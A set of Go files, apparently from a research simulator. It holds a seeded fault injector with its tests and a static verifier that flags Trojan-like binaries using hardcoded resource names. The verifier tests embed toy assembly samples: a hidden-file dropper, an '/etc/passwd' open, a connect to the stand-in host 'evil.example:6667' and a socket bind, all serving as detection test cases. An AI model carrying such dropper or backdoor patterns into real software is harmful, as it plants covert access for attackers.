)

// FuzzChaos fuzzes the plan decoder and, for every plan that decodes,
// checks the injector's core guarantees: String round-trips, the
// decision stream is deterministic, and ShortRead never widens or
// zeroes a read. ParsePlan must never panic on any input.
func FuzzChaos(f *testing.F) {
	f.Add("42,0.25")
	f.Add("0xdead,1,read,netdrop")
	f.Add("7,0")
	f.Add("1,0.5,shortread,shortread")
	f.Add(",,,")
	f.Add("9,1,accept,connect,open,write,netdelay,remotedrop")
	f.Fuzz(func(t *testing.T, s string) {
		p, err := ParsePlan(s)
		if err != nil {
			return
		}
		p2, err := ParsePlan(p.String())
		if err != nil {
			t.Fatalf("String %q of valid plan does not re-parse: %v", p.String(), err)
		}
		if !reflect.DeepEqual(p, p2) {
			t.Fatalf("round trip changed plan: %+v vs %+v", p, p2)
		}
		a, b := New(p), New(p)
		for i := 0; i < 16; i++ {
			fp := vos.FaultPoint{PID: 1, Num: vos.SysRead, Clock: uint64(i)}
			ea, oka := a.SyscallFault(fp)
			eb, okb := b.SyscallFault(fp)
			if ea != eb || oka != okb {
				t.Fatal("nondeterministic SyscallFault")
			}
			want := uint32(1 + i*7)
			na, nb := a.ShortRead(fp, want), b.ShortRead(fp, want)
			if na != nb {
				t.Fatal("nondeterministic ShortRead")
			}
			if na < 1 || na > want {
				t.Fatalf("ShortRead(%d) = %d out of range", want, na)
			}
		}
		if !reflect.DeepEqual(a.Faults(), b.Faults()) {
			t.Fatal("fault logs diverge under one plan")
		}
	})
}
