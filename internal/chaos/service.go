package chaos

// Service-level fault decision points. Unlike the vos seams — which
// the simulator consults on its single thread — these are consulted
// by the hth analysis service (and its soak harness) along one job's
// lifecycle: spec corruption at submission, queue stall and worker
// crashes on the worker, reader throttling on the tenant's stream.
//
// Determinism contract: the service derives one Injector per job
// (Plan.Derive over the job id), and a job's decision points are
// consulted in a fixed order — submit-time corruption, then per
// attempt: stall, crash-pre, crash-post. The consultations happen on
// different goroutines but are sequential in the job's lifetime, with
// happens-before edges through the pool queue, so one (plan, job id)
// pair produces one fault stream regardless of scheduling.

// Bounds for the synthetic delays, in milliseconds. Small enough that
// a fault storm soaks in test time, large enough to force real queue
// buildup and admission-control activity.
const (
	maxStallMS      = 25
	maxSlowReaderMS = 10
)

// JobSpecCorrupt decides whether a submitted job spec is corrupted
// before validation (BadJobSpec). The caller mangles the spec so the
// ordinary validation path produces the typed rejection.
func (in *Injector) JobSpecCorrupt(jobID string) bool {
	if !in.roll(BadJobSpec) {
		return false
	}
	in.record(Fault{Kind: BadJobSpec, Path: jobID})
	return true
}

// QueueStall decides whether a dequeued job's dispatch stalls, and
// for how many milliseconds (1..maxStallMS).
func (in *Injector) QueueStall(jobID string) (ms uint64, ok bool) {
	if !in.roll(QueueStall) {
		return 0, false
	}
	ms = 1 + in.next()%maxStallMS
	in.record(Fault{Kind: QueueStall, Path: jobID, Info: ms})
	return ms, true
}

// WorkerCrash decides whether the worker executing the job panics at
// the named point ("pre" = before the run starts, "post" = after it
// returned, both outside the run's own panic containment).
func (in *Injector) WorkerCrash(jobID, point string) bool {
	if !in.roll(WorkerCrash) {
		return false
	}
	in.record(Fault{Kind: WorkerCrash, Path: jobID + "/" + point})
	return true
}

// SlowReader decides whether the tenant reading this job's update
// stream is throttled, and by how many milliseconds per read
// (1..maxSlowReaderMS). Consulted by the soak harness on the tenant
// side; the service itself never blocks on a slow stream consumer.
func (in *Injector) SlowReader(jobID string) (ms uint64, ok bool) {
	if !in.roll(SlowReader) {
		return 0, false
	}
	ms = 1 + in.next()%maxSlowReaderMS
	in.record(Fault{Kind: SlowReader, Path: jobID, Info: ms})
	return ms, true
}
