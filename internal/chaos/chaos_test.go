package chaos

import (
	"reflect"
	"testing"

	"repro/internal/vos"
)

func TestParsePlan(t *testing.T) {
	p, err := ParsePlan("42,0.25")
	if err != nil {
		t.Fatal(err)
	}
	if p.Seed != 42 || p.Rate != 0.25 || len(p.Only) != 0 {
		t.Errorf("plan = %+v", p)
	}
	p, err = ParsePlan("0xdead, 0.5, read, netdrop")
	if err != nil {
		t.Fatal(err)
	}
	if p.Seed != 0xdead || !p.Enabled(ReadErr) || !p.Enabled(NetDrop) || p.Enabled(WriteErr) {
		t.Errorf("plan = %+v", p)
	}

	for _, bad := range []string{"", "7", "x,0.5", "7,nan", "7,1.5", "7,-0.1", "7,0.5,bogus"} {
		if _, err := ParsePlan(bad); err == nil {
			t.Errorf("ParsePlan(%q) accepted", bad)
		}
	}
}

func TestPlanStringRoundTrip(t *testing.T) {
	for _, s := range []string{"42,0.25", "7,0", "1,1,accept,connect", "99,0.125,shortread"} {
		p, err := ParsePlan(s)
		if err != nil {
			t.Fatal(err)
		}
		p2, err := ParsePlan(p.String())
		if err != nil {
			t.Fatalf("re-parse %q: %v", p.String(), err)
		}
		if !reflect.DeepEqual(p, p2) {
			t.Errorf("round trip %q -> %q: %+v vs %+v", s, p.String(), p, p2)
		}
	}
}

func TestKindRoundTrip(t *testing.T) {
	for k := Kind(0); k < numKinds; k++ {
		got, ok := KindByName(k.String())
		if !ok || got != k {
			t.Errorf("KindByName(%q) = %v, %v", k.String(), got, ok)
		}
	}
	if _, ok := KindByName("bogus"); ok {
		t.Error("KindByName accepted bogus")
	}
}

// drive pushes a fixed mixed stream of decision points through an
// injector and returns the resulting fault log.
func drive(in *Injector) []Fault {
	for i := 0; i < 200; i++ {
		in.SyscallFault(vos.FaultPoint{PID: 1, Num: vos.SysRead, FD: 3, Clock: uint64(i)})
		in.SyscallFault(vos.FaultPoint{PID: 1, Num: vos.SysOpen, Path: "/tmp/x", Clock: uint64(i)})
		in.SyscallFault(vos.FaultPoint{PID: 2, Num: vos.SysSocketcall, Sock: vos.SockConnect, FD: 4, Clock: uint64(i)})
		in.ShortRead(vos.FaultPoint{PID: 1, Num: vos.SysRead, FD: 3, Clock: uint64(i)}, 128)
		in.ScheduledConnect(uint64(i), "10.0.0.1:81")
		in.DropRemote("10.0.0.9:80", 32)
	}
	return in.Faults()
}

func TestInjectorDeterministic(t *testing.T) {
	p := Plan{Seed: 1234, Rate: 0.2}
	a, b := drive(New(p)), drive(New(p))
	if len(a) == 0 {
		t.Fatal("rate 0.2 over 1200 points injected nothing")
	}
	if !reflect.DeepEqual(a, b) {
		t.Error("same plan, different fault streams")
	}
	c := drive(New(Plan{Seed: 1235, Rate: 0.2}))
	if reflect.DeepEqual(a, c) {
		t.Error("different seeds, identical fault streams")
	}
}

func TestZeroRateInjectsNothing(t *testing.T) {
	in := New(Plan{Seed: 77, Rate: 0})
	if got := drive(in); len(got) != 0 {
		t.Errorf("zero-rate injector fired %d faults", len(got))
	}
	// Every decision point must also leave guest-visible results
	// untouched: ShortRead returns want, SyscallFault never fires.
	if n := in.ShortRead(vos.FaultPoint{Num: vos.SysRead}, 64); n != 64 {
		t.Errorf("zero-rate ShortRead clamped to %d", n)
	}
	if _, ok := in.SyscallFault(vos.FaultPoint{Num: vos.SysWrite}); ok {
		t.Error("zero-rate SyscallFault fired")
	}
}

func TestKindRestriction(t *testing.T) {
	p, err := ParsePlan("9,1,shortread")
	if err != nil {
		t.Fatal(err)
	}
	faults := drive(New(p))
	if len(faults) == 0 {
		t.Fatal("rate-1 restricted plan injected nothing")
	}
	for _, f := range faults {
		if f.Kind != ShortRead {
			t.Fatalf("restricted plan injected %v", f)
		}
	}
}

func TestErrnoMapping(t *testing.T) {
	in := New(Plan{Seed: 5, Rate: 1})
	cases := []struct {
		fp   vos.FaultPoint
		want []uint32
	}{
		{vos.FaultPoint{Num: vos.SysRead}, []uint32{vos.EIO}},
		{vos.FaultPoint{Num: vos.SysWrite}, []uint32{vos.EIO}},
		{vos.FaultPoint{Num: vos.SysOpen}, []uint32{vos.EIO, vos.ENOMEM}},
		{vos.FaultPoint{Num: vos.SysCreat}, []uint32{vos.EIO, vos.ENOMEM}},
		{vos.FaultPoint{Num: vos.SysSocketcall, Sock: vos.SockConnect}, []uint32{vos.ECONN}},
		{vos.FaultPoint{Num: vos.SysSocketcall, Sock: vos.SockAccept}, []uint32{vos.ECONNABORT}},
	}
	for _, c := range cases {
		e, ok := in.SyscallFault(c.fp)
		if !ok {
			t.Fatalf("rate-1 injector skipped %+v", c.fp)
		}
		legal := false
		for _, w := range c.want {
			legal = legal || e == w
		}
		if !legal {
			t.Errorf("fault point %+v -> errno %d, want one of %v", c.fp, e, c.want)
		}
	}
	// Untargeted calls are never failed, even at rate 1.
	if _, ok := in.SyscallFault(vos.FaultPoint{Num: vos.SysClose}); ok {
		t.Error("injector failed an untargeted syscall")
	}
}

func TestShortReadBounds(t *testing.T) {
	in := New(Plan{Seed: 11, Rate: 1})
	for i := 0; i < 500; i++ {
		want := uint32(2 + i%1000)
		n := in.ShortRead(vos.FaultPoint{Num: vos.SysRead}, want)
		if n < 1 || n >= want {
			t.Fatalf("ShortRead(%d) = %d, want 1 <= n < want", want, n)
		}
	}
	// A 1-byte read is never clamped to zero.
	if n := in.ShortRead(vos.FaultPoint{Num: vos.SysRead}, 1); n != 1 {
		t.Errorf("ShortRead(1) = %d", n)
	}
}

func TestDeriveOrderInsensitive(t *testing.T) {
	p := Plan{Seed: 42, Rate: 0.3}
	a1 := drive(New(p.Derive("scenario-a")))
	b1 := drive(New(p.Derive("scenario-b")))
	// Reverse construction order: per-scenario streams are unchanged.
	b2 := drive(New(p.Derive("scenario-b")))
	a2 := drive(New(p.Derive("scenario-a")))
	if !reflect.DeepEqual(a1, a2) || !reflect.DeepEqual(b1, b2) {
		t.Error("Derive streams depend on construction order")
	}
	if reflect.DeepEqual(a1, b1) {
		t.Error("distinct scenarios share a fault stream")
	}
	if d := p.Derive("x"); d.Rate != p.Rate || d.Seed == p.Seed {
		t.Errorf("Derive = %+v", d)
	}
}

func TestFaultSeqAndString(t *testing.T) {
	in := New(Plan{Seed: 3, Rate: 1})
	drive(in)
	for i, f := range in.Faults() {
		if f.Seq != i {
			t.Fatalf("fault %d has Seq %d", i, f.Seq)
		}
		if f.String() == "" {
			t.Fatal("empty fault string")
		}
	}
	if in.Count() != len(in.Faults()) {
		t.Error("Count disagrees with Faults")
	}
}

func TestServiceFaultKinds(t *testing.T) {
	// Rate 1 with only service kinds enabled: every decision point
	// fires and is recorded with its job id.
	in := New(Plan{Seed: 11, Rate: 1,
		Only: []Kind{WorkerCrash, QueueStall, SlowReader, BadJobSpec}})
	if !in.JobSpecCorrupt("j1") {
		t.Fatal("JobSpecCorrupt did not fire at rate 1")
	}
	if ms, ok := in.QueueStall("j1"); !ok || ms < 1 || ms > maxStallMS {
		t.Fatalf("QueueStall = (%d, %v)", ms, ok)
	}
	if !in.WorkerCrash("j1", "pre") {
		t.Fatal("WorkerCrash did not fire at rate 1")
	}
	if ms, ok := in.SlowReader("j1"); !ok || ms < 1 || ms > maxSlowReaderMS {
		t.Fatalf("SlowReader = (%d, %v)", ms, ok)
	}
	fs := in.Faults()
	if len(fs) != 4 {
		t.Fatalf("recorded %d faults, want 4", len(fs))
	}
	wantKinds := []Kind{BadJobSpec, QueueStall, WorkerCrash, SlowReader}
	for i, f := range fs {
		if f.Kind != wantKinds[i] {
			t.Errorf("fault %d kind = %s, want %s", i, f.Kind, wantKinds[i])
		}
	}
	if fs[2].Path != "j1/pre" {
		t.Errorf("WorkerCrash path = %q, want j1/pre", fs[2].Path)
	}
}

func TestServiceFaultsDeterministicPerJob(t *testing.T) {
	plan := Plan{Seed: 0xC0FFEE, Rate: 0.5,
		Only: []Kind{WorkerCrash, QueueStall, BadJobSpec}}
	stream := func() []string {
		var out []string
		for _, id := range []string{"j1", "j2", "j3", "j4"} {
			in := New(plan.Derive(id))
			if in.JobSpecCorrupt(id) {
				out = append(out, id+":badspec")
			}
			for attempt := 0; attempt < 3; attempt++ {
				if _, ok := in.QueueStall(id); ok {
					out = append(out, id+":stall")
				}
				if in.WorkerCrash(id, "pre") {
					out = append(out, id+":crash")
				}
			}
		}
		return out
	}
	a, b := stream(), stream()
	if len(a) == 0 {
		t.Fatal("rate-0.5 plan fired nothing across 4 jobs")
	}
	if len(a) != len(b) {
		t.Fatalf("fault streams differ in length: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("fault stream diverged at %d: %s vs %s", i, a[i], b[i])
		}
	}
}

func TestServiceFaultsZeroRateInert(t *testing.T) {
	in := New(Plan{Seed: 7, Rate: 0})
	if in.JobSpecCorrupt("j") || in.WorkerCrash("j", "pre") {
		t.Fatal("zero-rate plan fired a service fault")
	}
	if _, ok := in.QueueStall("j"); ok {
		t.Fatal("zero-rate plan fired a queue stall")
	}
	if _, ok := in.SlowReader("j"); ok {
		t.Fatal("zero-rate plan fired a slow reader")
	}
	if in.Count() != 0 {
		t.Fatalf("zero-rate plan recorded %d faults", in.Count())
	}
}
