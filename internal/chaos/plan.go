// Package chaos implements seeded fault injection for the HTH
// simulator: a deterministic injector that sits behind the vos
// FaultInjector interface and turns a (seed, rate) plan into
// reproducible synthetic failures — I/O errors, short reads,
// descriptor exhaustion pressure, dropped or delayed remote peers.
//
// Determinism contract: the simulation is single-threaded per run and
// consults the injector at fixed decision points, so one Injector
// given one Plan produces the same fault sequence on every run. A
// zero-rate plan never fires and is guest-invisible: detections under
// it are bit-identical to a run with no injector at all. Per-scenario
// injectors are derived by hashing the scenario name into the seed
// (Plan.Derive), so a parallel corpus sweep is reproducible regardless
// of worker scheduling order.
package chaos

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
)

// Plan is the user-facing description of a chaos campaign: a PRNG
// seed, a per-decision-point fault probability, and an optional
// restriction to a subset of fault kinds (nil/empty = all kinds).
type Plan struct {
	Seed uint64
	Rate float64 // probability in [0, 1] that an offered point fires
	Only []Kind  // restrict to these kinds; empty means all
}

// ParsePlan decodes the "-chaos" flag syntax: "seed,rate[,kind...]".
// The seed accepts any Go integer literal form (decimal, 0x...); the
// rate must lie in [0, 1]; kinds use the names in KindNames.
func ParsePlan(s string) (Plan, error) {
	parts := strings.Split(s, ",")
	if len(parts) < 2 {
		return Plan{}, fmt.Errorf("chaos: plan %q: want seed,rate[,kind...]", s)
	}
	seed, err := strconv.ParseUint(strings.TrimSpace(parts[0]), 0, 64)
	if err != nil {
		return Plan{}, fmt.Errorf("chaos: plan seed %q: %v", parts[0], err)
	}
	rate, err := strconv.ParseFloat(strings.TrimSpace(parts[1]), 64)
	if err != nil {
		return Plan{}, fmt.Errorf("chaos: plan rate %q: %v", parts[1], err)
	}
	if rate < 0 || rate > 1 || rate != rate {
		return Plan{}, fmt.Errorf("chaos: plan rate %v outside [0, 1]", rate)
	}
	p := Plan{Seed: seed, Rate: rate}
	seen := map[Kind]bool{}
	for _, name := range parts[2:] {
		k, ok := KindByName(strings.TrimSpace(name))
		if !ok {
			return Plan{}, fmt.Errorf("chaos: unknown fault kind %q (known: %s)",
				name, strings.Join(KindNames(), " "))
		}
		if !seen[k] {
			seen[k] = true
			p.Only = append(p.Only, k)
		}
	}
	sort.Slice(p.Only, func(i, j int) bool { return p.Only[i] < p.Only[j] })
	return p, nil
}

// String renders the plan in ParsePlan syntax; ParsePlan(p.String())
// reproduces p.
func (p Plan) String() string {
	out := fmt.Sprintf("%d,%s", p.Seed, strconv.FormatFloat(p.Rate, 'g', -1, 64))
	for _, k := range p.Only {
		out += "," + k.String()
	}
	return out
}

// Enabled reports whether the plan allows faults of kind k.
func (p Plan) Enabled(k Kind) bool {
	if len(p.Only) == 0 {
		return true
	}
	for _, o := range p.Only {
		if o == k {
			return true
		}
	}
	return false
}

// Derive returns a plan whose seed mixes in name, so that each
// scenario in a sweep draws from an independent, order-insensitive
// fault stream: running scenarios in any order, on any number of
// workers, yields the same per-scenario faults.
func (p Plan) Derive(name string) Plan {
	const (
		fnvOffset = 14695981039346656037
		fnvPrime  = 1099511628211
	)
	h := uint64(fnvOffset)
	for i := 0; i < len(name); i++ {
		h ^= uint64(name[i])
		h *= fnvPrime
	}
	d := p
	d.Seed = splitmix64(p.Seed ^ h)
	return d
}
