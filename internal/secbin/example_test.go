package secbin_test

import (
	"fmt"

	"repro/internal/asm"
	"repro/internal/secbin"
)

// ExampleVerify checks a Trojan dropper against the Appendix B
// "Secure Binary" rules.
func ExampleVerify() {
	img := asm.MustAssemble("/bin/dropper", `
.text
_start:
    mov ebx, path
    mov eax, 8          ; creat
    int 0x80
    hlt
.data
path: .asciz "/tmp/.hidden"
`)
	rep, err := secbin.Verify(img)
	if err != nil {
		panic(err)
	}
	fmt.Print(rep)
	// Output:
	// /bin/dropper: NOT a Secure Binary — 1 violation(s)
	//   hardcoded-resource-name at .text[2] (SYS_creat): resource name is symbol "path" ("/tmp/.hidden")
}
