// Package secbin implements the "Secure Binary" concept of the
// paper's Appendix B: a binary is *safer* (not safe) with respect to
// Trojan Horses and Backdoors if no file or socket name it uses is
// hardcoded, and data written to such resources is never hardcoded.
//
// The verifier is a conservative static analysis over the synthetic
// image format: within each basic block it tracks which registers
// hold values that point into the image's own sections (i.e.
// hardcoded data), and inspects every `int 0x80` site:
//
//   - open/creat/execve with EBX pointing into the image ⇒ hardcoded
//     resource name;
//   - write with ECX pointing into the image ⇒ hardcoded data written
//     to a resource;
//   - socketcall whose in-image argument block names an in-image
//     address string ⇒ hardcoded socket name.
//
// Absence of findings does not certify the binary (names can be
// computed), which is exactly the Appendix's claim: a Secure Binary
// is "safer but not safe".
package secbin

import (
	"fmt"
	"strings"

	"repro/internal/image"
	"repro/internal/isa"
)

// Kind classifies a violation.
type Kind int

// Violation kinds.
const (
	// HardcodedName: a resource-naming syscall receives a pointer
	// into the binary's own data (Appendix B rule 1, relaxed form).
	HardcodedName Kind = iota
	// HardcodedData: a write sends bytes that live in the binary
	// (Appendix B rule 1, relaxed form, second clause).
	HardcodedData
)

// String names the kind.
func (k Kind) String() string {
	if k == HardcodedName {
		return "hardcoded-resource-name"
	}
	return "hardcoded-data-write"
}

// Violation is one Secure Binary rule violation.
type Violation struct {
	Kind    Kind
	Section string // text section name
	Instr   int    // instruction index of the int 0x80
	Call    string // SYS_* name
	Detail  string
}

func (v Violation) String() string {
	return fmt.Sprintf("%s at %s[%d] (%s): %s", v.Kind, v.Section, v.Instr, v.Call, v.Detail)
}

// Report is the verifier's result for one image.
type Report struct {
	Image      string
	Violations []Violation
}

// Secure reports whether no violations were found.
func (r *Report) Secure() bool { return len(r.Violations) == 0 }

// String renders the report.
func (r *Report) String() string {
	if r.Secure() {
		return fmt.Sprintf("%s: SECURE BINARY (no hardcoded resource usage found)\n", r.Image)
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s: NOT a Secure Binary — %d violation(s)\n", r.Image, len(r.Violations))
	for _, v := range r.Violations {
		fmt.Fprintf(&b, "  %s\n", v)
	}
	return b.String()
}

// value is the abstract value a register may hold inside one basic
// block: unknown, or a known constant (possibly an image-relative
// address because it came from a relocation).
type value struct {
	known   bool
	imm     uint32
	inImage bool   // imm was produced by a relocation into this image
	symbol  string // best-effort name of the referenced symbol
}

// Verify runs the Secure Binary analysis on one image.
func Verify(img *image.Image) (*Report, error) {
	if err := img.Validate(); err != nil {
		return nil, err
	}
	rep := &Report{Image: img.Name}
	for si := range img.Sections {
		sec := &img.Sections[si]
		if sec.Kind != image.Text {
			continue
		}
		verifySection(img, si, sec, rep)
	}
	return rep, nil
}

// relocInfo answers whether an operand of an instruction was
// relocated (and therefore is an address of image data).
func relocInfo(img *image.Image, section, instr int, slot image.OperandSlot) (string, bool) {
	for _, r := range img.Relocs {
		if r.Section == section && r.Instr == instr && r.Slot == slot {
			return r.Symbol, true
		}
	}
	return "", false
}

// dataRelocAt answers whether the data word wordOff bytes past symbol
// sym holds a relocated (image) address.
func dataRelocAt(img *image.Image, sym string, wordOff int) (string, bool) {
	symDef, ok := img.Symbols[sym]
	if !ok {
		return "", false
	}
	for _, r := range img.DataRels {
		if r.Section == symDef.Section && r.Offset == symDef.Offset+wordOff {
			return r.Symbol, true
		}
	}
	return "", false
}

// analysis is the per-section abstract state.
type analysis struct {
	img  *image.Image
	si   int
	sec  *image.Section
	rep  *Report
	regs [isa.NumRegs]value
	// mem tracks block-local stores of known values to statically
	// named locations: "sym+off" -> value. This is how the verifier
	// sees through socketcall argument blocks built at run time
	// (mov [scargs+4], addr).
	mem map[string]value
}

func (a *analysis) reset() {
	a.regs = [isa.NumRegs]value{}
	a.mem = map[string]value{}
}

// memKey names a statically resolvable memory operand, when possible.
func (a *analysis) memKey(instr int, slot image.OperandSlot, op isa.Operand) (string, bool) {
	if op.Kind != isa.MemOperand || op.HasBase {
		return "", false
	}
	sym, ok := relocInfo(a.img, a.si, instr, slot)
	if !ok {
		return "", false
	}
	return fmt.Sprintf("%s+%d", sym, op.Imm), true
}

func verifySection(img *image.Image, si int, sec *image.Section, rep *Report) {
	// Recompute block leaders (same rule as isa.Span, without bases).
	leaders := make([]bool, len(sec.Instrs))
	if len(sec.Instrs) > 0 {
		leaders[0] = true
	}
	for i, in := range sec.Instrs {
		if in.Op.IsControlTransfer() && i+1 < len(sec.Instrs) {
			leaders[i+1] = true
		}
	}
	for off := range img.TextSymbols(si) {
		if off < len(leaders) {
			leaders[off] = true
		}
	}

	a := &analysis{img: img, si: si, sec: sec, rep: rep}
	a.reset()

	for i, in := range sec.Instrs {
		if leaders[i] {
			a.reset()
		}
		switch in.Op {
		case isa.MOV:
			var v value
			switch in.B.Kind {
			case isa.ImmOperand:
				sym, relocated := relocInfo(img, si, i, image.SlotB)
				v = value{known: true, imm: in.B.Imm, inImage: relocated, symbol: sym}
			case isa.RegOperand:
				v = a.regs[in.B.Reg]
			case isa.MemOperand:
				if k, ok := a.memKey(i, image.SlotB, in.B); ok {
					v = a.mem[k]
				}
			}
			switch in.A.Kind {
			case isa.RegOperand:
				a.regs[in.A.Reg] = v
			case isa.MemOperand:
				if k, ok := a.memKey(i, image.SlotA, in.A); ok {
					a.mem[k] = v
				}
			}
		case isa.INT:
			if in.A.Kind == isa.ImmOperand && in.A.Imm == 0x80 {
				a.checkSyscall(i)
			}
			// EAX is clobbered by the syscall result.
			a.regs[isa.EAX] = value{}
		case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR, isa.MUL,
			isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR, isa.NOT, isa.NEG,
			isa.INC, isa.DEC, isa.LEA, isa.MOVB, isa.POP:
			// Any other write to a register makes it unknown. A
			// pointer adjusted by a constant keeps its provenance
			// (indexing into image data is still image data).
			if in.A.Kind == isa.RegOperand {
				if in.Op == isa.ADD && in.B.Kind == isa.ImmOperand && a.regs[in.A.Reg].inImage {
					a.regs[in.A.Reg].imm += in.B.Imm
				} else {
					a.regs[in.A.Reg] = value{}
				}
			}
		case isa.CALL:
			// Calls clobber the caller-visible state conservatively.
			a.reset()
		}
	}
}

// syscall numbers the verifier understands (Linux i386, as in vos).
const (
	sysRead       = 3
	sysWrite      = 4
	sysOpen       = 5
	sysCreat      = 8
	sysExecve     = 11
	sysSocketcall = 102
)

func (a *analysis) checkSyscall(i int) {
	eax := a.regs[isa.EAX]
	if !eax.known {
		return // cannot tell which call: stay conservative but quiet
	}
	add := func(kind Kind, call, detail string) {
		a.rep.Violations = append(a.rep.Violations, Violation{
			Kind: kind, Section: a.sec.Name, Instr: i, Call: call, Detail: detail,
		})
	}
	nameOf := func(v value) string {
		if v.symbol != "" {
			return fmt.Sprintf("symbol %q (%s)", v.symbol, stringAt(a.img, v.symbol))
		}
		return fmt.Sprintf("address %#x", v.imm)
	}
	switch eax.imm {
	case sysOpen, sysCreat, sysExecve:
		callName := map[uint32]string{sysOpen: "SYS_open", sysCreat: "SYS_creat", sysExecve: "SYS_execve"}[eax.imm]
		if ebx := a.regs[isa.EBX]; ebx.known && ebx.inImage {
			add(HardcodedName, callName, "resource name is "+nameOf(ebx))
		}
	case sysWrite:
		// Only *initialized* image data is hardcoded; a zeroed
		// .space buffer filled at run time is not (Appendix B's rule
		// concerns data baked into the binary).
		if ecx := a.regs[isa.ECX]; ecx.known && ecx.inImage && initializedAt(a.img, ecx.symbol) {
			add(HardcodedData, "SYS_write", "written data is "+nameOf(ecx))
		}
	case sysSocketcall:
		ebx, ecx := a.regs[isa.EBX], a.regs[isa.ECX]
		if !ebx.known || !ecx.known || !ecx.inImage || ecx.symbol == "" {
			return
		}
		// args[1] of the socketcall block: either stored in this
		// block at run time, or baked into the data section.
		arg1, tracked := a.mem[fmt.Sprintf("%s+%d", ecx.symbol, 4)]
		if !tracked {
			if sym, ok := dataRelocAt(a.img, ecx.symbol, 4); ok {
				arg1 = value{known: true, inImage: true, symbol: sym}
				tracked = true
			}
		}
		if !tracked || !arg1.known || !arg1.inImage {
			return
		}
		switch ebx.imm {
		case 2, 3: // bind, connect: args[1] is the address string
			add(HardcodedName, "SYS_socketcall:"+sockName(ebx.imm),
				"socket address is "+nameOf(arg1))
		case 9: // send: args[1] is the buffer
			if initializedAt(a.img, arg1.symbol) {
				add(HardcodedData, "SYS_socketcall:send",
					"sent data is "+nameOf(arg1))
			}
		}
	}
}

func sockName(n uint32) string {
	if n == 2 {
		return "bind"
	}
	return "connect"
}

// initializedAt reports whether the data a symbol points at carries
// initialized (non-zero) content in the image. Unknown symbols are
// treated as initialized (conservative).
func initializedAt(img *image.Image, symName string) bool {
	if symName == "" {
		return true
	}
	sym, ok := img.Symbols[symName]
	if !ok {
		return true
	}
	sec := &img.Sections[sym.Section]
	if sec.Kind == image.Text {
		return true
	}
	end := sym.Offset + 64
	if end > len(sec.Data) {
		end = len(sec.Data)
	}
	for _, b := range sec.Data[sym.Offset:end] {
		if b != 0 {
			return true
		}
	}
	return false
}

// stringAt renders the NUL-terminated string a data symbol points at,
// for human-readable reports.
func stringAt(img *image.Image, symName string) string {
	sym, ok := img.Symbols[symName]
	if !ok {
		return "?"
	}
	sec := &img.Sections[sym.Section]
	if sec.Kind == image.Text {
		return "<code>"
	}
	end := sym.Offset
	for end < len(sec.Data) && sec.Data[end] != 0 && end-sym.Offset < 64 {
		end++
	}
	return fmt.Sprintf("%q", sec.Data[sym.Offset:end])
}
