package secbin

import (
	"strings"
	"testing"

	"repro/internal/asm"
)

func verify(t *testing.T, src string) *Report {
	t.Helper()
	img := asm.MustAssemble("/bin/test", src)
	rep, err := Verify(img)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func TestSecureProgramPasses(t *testing.T) {
	// Every resource name comes from argv; the written data comes
	// from a file read at run time.
	rep := verify(t, `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]    ; argv[1] file name
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3          ; read — buf as *read* destination is fine
    int 0x80
    mov ebx, [ebp+8]
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve of a user-named program
    int 0x80
    hlt
.data
buf: .space 8
`)
	if !rep.Secure() {
		t.Errorf("secure program flagged: %s", rep)
	}
	if !strings.Contains(rep.String(), "SECURE BINARY") {
		t.Errorf("report = %q", rep.String())
	}
}

func TestHardcodedExecveFlagged(t *testing.T) {
	rep := verify(t, `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	if rep.Secure() {
		t.Fatal("hardcoded execve not flagged")
	}
	v := rep.Violations[0]
	if v.Kind != HardcodedName || v.Call != "SYS_execve" {
		t.Errorf("violation = %+v", v)
	}
	if !strings.Contains(v.Detail, `"/bin/ls"`) {
		t.Errorf("detail = %q", v.Detail)
	}
}

func TestHardcodedOpenAndCreatFlagged(t *testing.T) {
	rep := verify(t, `
.text
_start:
    mov ebx, f1
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, f2
    mov eax, 8          ; creat
    int 0x80
    hlt
.data
f1: .asciz "/etc/passwd"
f2: .asciz "/tmp/drop"
`)
	if len(rep.Violations) != 2 {
		t.Fatalf("violations = %v", rep.Violations)
	}
	if rep.Violations[0].Call != "SYS_open" || rep.Violations[1].Call != "SYS_creat" {
		t.Errorf("calls = %v", rep.Violations)
	}
}

func TestHardcodedWriteDataFlagged(t *testing.T) {
	rep := verify(t, `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov eax, 8          ; creat(argv[1]) — name is fine
    int 0x80
    mov ebx, eax
    mov ecx, payload    ; but the data is hardcoded
    mov edx, 8
    mov eax, 4
    int 0x80
    hlt
.data
payload: .asciz "PAYLOAD"
`)
	if len(rep.Violations) != 1 || rep.Violations[0].Kind != HardcodedData {
		t.Fatalf("violations = %v", rep.Violations)
	}
}

func TestHardcodedConnectViaRuntimeStore(t *testing.T) {
	// The socketcall argument block is filled at run time — the
	// block-local memory tracking must see through it.
	rep := verify(t, `
.text
_start:
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    hlt
.data
addr:   .asciz "evil.example:6667"
scargs: .space 12
`)
	if rep.Secure() {
		t.Fatal("hardcoded connect not flagged")
	}
	v := rep.Violations[0]
	if v.Kind != HardcodedName || v.Call != "SYS_socketcall:connect" {
		t.Errorf("violation = %+v", v)
	}
	if !strings.Contains(v.Detail, "evil.example:6667") {
		t.Errorf("detail = %q", v.Detail)
	}
}

func TestHardcodedBindViaDataReloc(t *testing.T) {
	// The argument block is baked into the data section with .word.
	rep := verify(t, `
.text
_start:
    mov eax, 102
    mov ebx, 2          ; bind
    mov ecx, bindargs
    int 0x80
    hlt
.data
addr:     .asciz "localhost:1084"
bindargs: .word 0, addr, 0
`)
	if rep.Secure() {
